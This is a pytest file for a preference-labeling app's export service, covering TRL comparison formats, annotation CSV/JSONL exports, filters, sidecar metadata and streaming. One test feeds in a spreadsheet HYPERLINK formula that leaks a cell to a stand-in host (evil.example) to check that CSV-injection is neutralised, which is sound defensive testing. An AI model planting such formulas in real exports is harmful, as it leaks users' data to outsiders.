"""Exports: TRL preference formats, full annotations, filters, the sidecar, streaming."""

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import text

from app.db.enums import Split
from app.db.models import Response
from app.services import export, gold, labelers
from app.services.errors import Invalid, NotFound
from tests.factories import annotate, bulk_seed_session, make_prompt_set, make_user, task_with_ids

DAY1 = datetime(2024, 5, 1, 9, 0, tzinfo=UTC)


def _run(session, kind, fmt, set_id, **filters):
    plan = export.plan_export(session, kind=kind, fmt=fmt,
                              filters=export.parse_filters(prompt_set_ids=set_id, **filters))
    return plan, b"".join(export.iter_export(session, plan)).decode()


def _lines(payload: str) -> list[dict]:
    return [json.loads(line) for line in payload.splitlines()]


@pytest.fixture
def labeled(session):
    """A set with three labelers who agree (bob with a tie), one who reverses
    everything, a gold task, prompts in two splits and labels on two days."""
    ps = make_prompt_set(session, k=3, overlap=4)
    ann, bob, cal, odd = (make_user(session, username=n) for n in ("x-ann", "x-bob", "x-cal", "x-odd"))
    tasks = []
    for i in range(4):
        split = Split.train if i < 3 else Split.validation
        messages = None
        if i == 0:
            messages = [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "Hi?"},
                        {"role": "assistant", "content": "Hello."}, {"role": "user", "content": "Name a fruit."}]
        task, ids = task_with_ids(session, ps, split=split, messages=messages)
        tasks.append((task, ids))
        day = DAY1 + timedelta(days=i % 2)
        annotate(session, task, ids, ann, [1, 2, 3], created_at=day)
        annotate(session, task, ids, bob, [1, 2, 2], [7, 4, 4], created_at=day, flags=["unclear"] if i == 1 else None)
        annotate(session, task, ids, cal, [1, 2, 3], created_at=day)
        annotate(session, task, ids, odd, [3, 2, 1], created_at=day)
    gold_task, gold_ids = task_with_ids(session, ps)
    gold.mark_gold(session, prompt_set_id=ps.id, task_id=gold_task.id, best_response_id=gold_ids[0])
    annotate(session, gold_task, gold_ids, ann, [1, 2, 3], created_at=DAY1)
    return ps, ann, bob, odd, tasks


def test_plain_comparisons_have_the_trl_columns_and_rendered_prompts(session, labeled):
    ps, ann, bob, odd, tasks = labeled
    plan, payload = _run(session, "comparisons", "plain", ps.id)
    rows = _lines(payload)
    # ann 3 + bob 2 (his tie gives none) + cal 3 + odd 3 pairs per task, 4 tasks; gold task left out.
    assert len(rows) == 4 * 11
    for row in rows:
        assert list(row)[:3] == ["prompt", "chosen", "rejected"]
        assert all(isinstance(row[c], str) for c in ("prompt", "chosen", "rejected"))
        assert "margin" not in row  # TRL would read it as a loss margin
    task0, ids0 = tasks[0]
    first = next(r for r in rows if r["task_id"] == task0.id and r["labeler_id"] == ann.id)
    assert first["prompt"] == "System: Be brief.\n\nUser: Hi?\n\nAssistant: Hello.\n\nUser: Name a fruit.\n\nAssistant:"
    single = next(r for r in rows if r["task_id"] == tasks[1][0].id)
    assert single["prompt"] == tasks[1][0].prompt.text
    ann_on_1 = sorted((r["chosen"], r["rejected"]) for r in rows
                      if r["task_id"] == tasks[1][0].id and r["labeler_id"] == ann.id)
    n = tasks[1][0].prompt.text.split()[-1]
    assert ann_on_1 == sorted([(f"answer 0 to {n}", f"answer 1 to {n}"), (f"answer 0 to {n}", f"answer 2 to {n}"),
                               (f"answer 1 to {n}", f"answer 2 to {n}")])
    assert {r["split"] for r in rows} == {"train", "validation"}


def test_conversational_comparisons_are_message_lists(session, labeled):
    ps, ann, *_ , tasks = labeled
    _, payload = _run(session, "comparisons", "conversational", ps.id)
    rows = _lines(payload)
    row = next(r for r in rows if r["task_id"] == tasks[0][0].id)
    assert row["prompt"] == tasks[0][0].prompt.messages
    assert row["chosen"] == [{"role": "assistant", "content": row["chosen"][0]["content"]}]
    assert row["rejected"][0]["role"] == "assistant" and len(row["rejected"]) == 1


@pytest.mark.parametrize("fmt", ["plain", "conversational"])
def test_datasets_loads_the_export_with_the_columns_trl_expects(session, labeled, tmp_path, fmt):
    from datasets import load_dataset

    ps = labeled[0]
    plan = export.plan_export(session, kind="comparisons", fmt=fmt,
                              filters=export.parse_filters(prompt_set_ids=ps.id))
    out = tmp_path / plan.filename
    meta = export.write_export(session, plan, out)
    dataset = load_dataset("json", data_files=str(out), split="train")
    assert {"prompt", "chosen", "rejected"} <= set(dataset.column_names)
    assert len(dataset) == meta["rows"] == 44
    example = dataset[0]
    if fmt == "plain":
        assert all(isinstance(example[c], str) for c in ("prompt", "chosen", "rejected"))
    else:
        assert all(isinstance(m, dict) and set(m) == {"role", "content"} for m in example["prompt"])
        assert example["chosen"][0]["role"] == "assistant" and example["rejected"][0]["role"] == "assistant"


def test_trl_reads_the_conversational_export_as_a_chat_preference_example(session, labeled):
    """TRL's own format check and chat templating (with the default model's tokenizer)."""
    from trl.data_utils import is_conversational, maybe_apply_chat_template

    from tests.conftest import default_model_dir
    from trainer.models import load_tokenizer

    ps = labeled[0]
    conversational = _lines(_run(session, "comparisons", "conversational", ps.id)[1])[0]
    plain = _lines(_run(session, "comparisons", "plain", ps.id)[1])[0]
    assert is_conversational(conversational) and not is_conversational(plain)
    templated = maybe_apply_chat_template(conversational, load_tokenizer(str(default_model_dir())))
    assert conversational["chosen"][0]["content"] in templated["chosen"]
    assert conversational["prompt"][-1]["content"] in templated["prompt"]


def test_annotations_jsonl_has_every_rating_rank_flag_labeler_and_time(session, labeled):
    ps, ann, bob, odd, tasks = labeled
    plan, payload = _run(session, "annotations", "jsonl", ps.id)
    rows = _lines(payload)
    assert len(rows) == 17 == export.count_rows(session, plan)  # 16 + the gold one (marked)
    assert set(rows[0]) == set(export.ANNOTATION_JSONL_COLUMNS)
    assert sum(r["is_gold"] for r in rows) == 1
    bobs = next(r for r in rows if r["labeler"] == "x-bob" and r["task_id"] == tasks[1][0].id)
    assert bobs["labeler_id"] == bob.id and bobs["prompt_flags"] == ["unclear"]
    by_response = {x["response_id"]: x for x in bobs["ratings"]}
    ids = tasks[1][1]
    assert [(by_response[i]["rank"], by_response[i]["likert"]) for i in ids] == [(1, 7), (2, 4), (2, 4)]
    assert by_response[ids[0]]["text"].startswith("answer 0") and by_response[ids[0]]["flags"] == []
    assert [x["position"] for x in bobs["ratings"]] == [0, 1, 2]  # in display order
    assert datetime.fromisoformat(bobs["created_at"]) == DAY1 + timedelta(days=1)
    assert bobs["time_spent_s"] == 10.0


def test_annotations_csv_has_one_row_per_rating(session, labeled):
    ps, ann, bob, odd, tasks = labeled
    plan, payload = _run(session, "annotations", "csv", ps.id)
    rows = list(csv.DictReader(io.StringIO(payload)))
    assert len(rows) == 17 * 3 == export.count_rows(session, plan)
    assert list(rows[0]) == export.ANNOTATION_CSV_COLUMNS
    flagged = [r for r in rows if r["labeler"] == "x-bob" and r["task_id"] == str(tasks[1][0].id)]
    ranks = {int(r["response_id"]): r["rank"] for r in flagged}
    assert [ranks[i] for i in tasks[1][1]] == ["1", "2", "2"]
    assert json.loads(flagged[0]["prompt_flags"]) == ["unclear"] and json.loads(flagged[0]["response_flags"]) == []


def test_annotations_csv_neutralises_spreadsheet_formulas(session):
    """A labeler's comment or a model's response that starts like a formula is written
    with a leading ' (OWASP's CSV-injection rule), so a spreadsheet shows it as text."""
    ps = make_prompt_set(session, k=3, overlap=1)
    task, ids = task_with_ids(session, ps, messages=[{"role": "user", "content": "@SUM(A1:A9)"}])
    annotation = annotate(session, task, ids, make_user(session, username="@x-sum"), [1, 2, 3])
    annotation.comment = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
    for response_id, text_ in zip(ids, ["+1+1", "-2+3", "\tcell"]):
        session.get(Response, response_id).text = text_
    session.flush()
    rows = list(csv.DictReader(io.StringIO(_run(session, "annotations", "csv", ps.id)[1])))
    assert rows[0]["comment"] == ''''=HYPERLINK("http://evil.example/?leak="&A1,"click me")'''
    assert rows[0]["labeler"] == "'@x-sum" and rows[0]["prompt"] == "'@SUM(A1:A9)"
    assert {r["response_text"] for r in rows} == {"'+1+1", "'-2+3", "'\tcell"}
    assert rows[0]["prompt_flags"] == "[]" and rows[0]["rank"] in {"1", "2", "3"}  # other cells as they were
    # JSON lines are data, not a spreadsheet: the texts stay exact there.
    line = _lines(_run(session, "annotations", "jsonl", ps.id)[1])[0]
    assert line["comment"].startswith("=HYPERLINK(") and {r["text"] for r in line["ratings"]} == {"+1+1", "-2+3", "\tcell"}


def test_filters_split_labelers_dates(session, labeled):
    ps, ann, bob, odd, tasks = labeled
    rows = _lines(_run(session, "comparisons", "plain", ps.id, split="validation")[1])
    assert {r["task_id"] for r in rows} == {tasks[3][0].id}
    rows = _lines(_run(session, "comparisons", "plain", ps.id, labelers=f"{bob.id},{odd.id}")[1])
    assert {r["labeler_id"] for r in rows} == {bob.id, odd.id}
    rows = _lines(_run(session, "comparisons", "plain", ps.id, labelers=[str(ann.id)])[1])
    assert {r["labeler_id"] for r in rows} == {ann.id} and len(rows) == 12
    # Day 1 only (a date includes the whole day); day 2 only; an exclusive time bound.
    day1 = _lines(_run(session, "annotations", "jsonl", ps.id, date_from="2024-05-01", date_to="2024-05-01")[1])
    assert {datetime.fromisoformat(r["created_at"]).date().day for r in day1} == {1} and len(day1) == 9
    day2 = _lines(_run(session, "annotations", "jsonl", ps.id, date_from="2024-05-02")[1])
    assert len(day2) == 8
    none = _lines(_run(session, "annotations", "jsonl", ps.id, date_to="2024-05-01T09:00:00Z")[1])
    assert none == []


def labeled_cal(session, ps):
    from app.services.users import get_user_by_name

    return get_user_by_name(session, "x-cal")


def test_min_agreement_drops_the_labeler_who_disagrees(session, labeled):
    ps, ann, bob, odd, tasks = labeled
    plan, payload = _run(session, "comparisons", "plain", ps.id, min_agreement="0.6")
    assert {r["labeler_id"] for r in _lines(payload)} == {ann.id, bob.id, labeled_cal(session, ps).id}
    assert [d["labeler_id"] for d in plan.dropped_by_agreement] == [odd.id]
    meta = export.export_meta(session, plan)
    assert meta["dropped_by_min_agreement"][0]["labeler"] == "x-odd"
    assert meta["rows"] == 4 * 8


def test_sidecar_states_the_filters_rows_time_and_format(session, labeled, tmp_path):
    ps, ann, bob, odd, tasks = labeled
    plan = export.plan_export(session, kind="annotations", fmt="csv", filters=export.parse_filters(
        prompt_set_ids=ps.id, split="train", labelers=[ann.id, bob.id], date_from="2024-05-01", date_to="2024-05-02"))
    out = tmp_path / "sub" / "annotations.csv"
    meta = export.write_export(session, plan, out)
    on_disk = json.loads((tmp_path / "sub" / "annotations.csv.meta.json").read_text())
    assert on_disk == meta
    assert meta["kind"] == "annotations" and meta["format"] == "csv" and meta["file"] == "annotations.csv"
    assert meta["prompt_sets"] == [{"id": ps.id, "name": ps.name}]
    assert meta["filters"] == {
        "split": "train", "labelers": sorted([ann.id, bob.id]), "min_agreement": None,
        "created_from": "2024-05-01T00:00:00+00:00", "created_before": "2024-05-03T00:00:00+00:00",
    }
    assert any("excluded annotations" in s for s in meta["always_left_out"])
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert meta["rows"] == len(rows) == (3 * 2 + 1) * 3  # 3 train tasks x 2 labelers + ann's gold task
    assert datetime.fromisoformat(meta["generated_at"]).tzinfo is not None
    # Nothing else (no temporary file) is left beside them.
    assert sorted(p.name for p in (tmp_path / "sub").iterdir()) == ["annotations.csv", "annotations.csv.meta.json"]


def test_excluded_annotations_are_never_exported(session, labeled):
    ps, ann, bob, odd, tasks = labeled
    labelers.set_excluded(session, user_id=odd.id, prompt_set_id=ps.id, excluded=True)
    for kind, fmt in (("comparisons", "plain"), ("comparisons", "conversational"), ("annotations", "jsonl")):
        assert odd.id not in {r["labeler_id"] for r in _lines(_run(session, kind, fmt, ps.id)[1])}
    rows = list(csv.DictReader(io.StringIO(_run(session, "annotations", "csv", ps.id)[1])))
    assert str(odd.id) not in {r["labeler_id"] for r in rows}
    # Even when asked for by name.
    assert _run(session, "comparisons", "plain", ps.id, labelers=str(odd.id))[1] == ""


@pytest.mark.parametrize("filters, field", [
    ({"split": "test"}, "split"), ({"labelers": "1,two"}, "labelers"), ({"min_agreement": "high"}, "min_agreement"),
    ({"min_agreement": "1.2"}, "min_agreement"), ({"date_from": "May 1st"}, "date_from"),
    ({"date_from": "2024-05-02", "date_to": "2024-05-01"}, "date_to"),
])
def test_bad_filters_name_the_field(filters, field):
    with pytest.raises(Invalid) as info:
        export.parse_filters(prompt_set_ids=1, **filters)
    assert field in info.value.errors and field in info.value.message


def test_unknown_kind_format_or_set(session, labeled):
    ps = labeled[0]
    f = export.parse_filters(prompt_set_ids=ps.id)
    with pytest.raises(Invalid, match="choose plain or conversational"):
        export.plan_export(session, kind="comparisons", fmt="csv", filters=f)
    with pytest.raises(Invalid, match="comparisons, annotations or votes"):
        export.plan_export(session, kind="ratings", fmt="csv", filters=f)
    with pytest.raises(NotFound):
        export.plan_export(session, kind="annotations", fmt="csv", filters=export.parse_filters(prompt_set_ids=999_999))


def test_a_big_export_streams_in_chunks_from_a_server_side_cursor(session):
    ps = make_prompt_set(session, k=4, overlap=2)
    users = {make_user(session).id: "consistent", make_user(session).id: "consistent", make_user(session).id: "random"}
    counts = bulk_seed_session(session, prompt_set_id=ps.id, labelers=users, tasks=400, k=4, overlap=2)
    assert counts.comparisons == 400 * 2 * 6  # no ties in the synthetic rankings
    plan = export.plan_export(session, kind="comparisons", fmt="plain",
                              filters=export.parse_filters(prompt_set_ids=ps.id))
    counter = [0]
    chunks = export.iter_export(session, plan, chunk_bytes=16 * 1024, counter=counter)
    first = next(chunks)
    assert 0 < counter[0] < counts.comparisons  # the first chunk went out before the rest was read
    # ... read through a server-side cursor, which stays open on the server meanwhile.
    assert session.scalar(text("SELECT count(*) FROM pg_cursors WHERE NOT is_holdable")) == 1
    sizes = [len(first)] + [len(c) for c in chunks]
    assert len(sizes) > 10 and max(sizes) < 16 * 1024 + 2048
    assert counter[0] == counts.comparisons == export.count_rows(session, plan)
    groups = sum(1 for _ in export.iter_ranked_groups(session, [ps.id]))
    assert groups == counts.annotations


def test_every_export_row_says_whether_an_ai_labeler_made_it(session, labeled, tmp_path):
    from app.db.enums import UserKind
    from tests.factories import make_model

    ps, ann, bob, odd, tasks = labeled
    odd.kind, odd.judge_model_id = UserKind.ai, make_model(session, tmp_path, name="judge").id
    session.flush()
    for kind, fmt in (("comparisons", "plain"), ("annotations", "jsonl")):
        rows = _lines(_run(session, kind, fmt, ps.id)[1])
        assert {r["labeler_id"] for r in rows if r["ai"]} == {odd.id}, kind
        assert any(not r["ai"] for r in rows)
    rows = list(csv.DictReader(io.StringIO(_run(session, "annotations", "csv", ps.id)[1])))
    assert {r["labeler"] for r in rows if r["ai"] == "True"} == {"x-odd"}
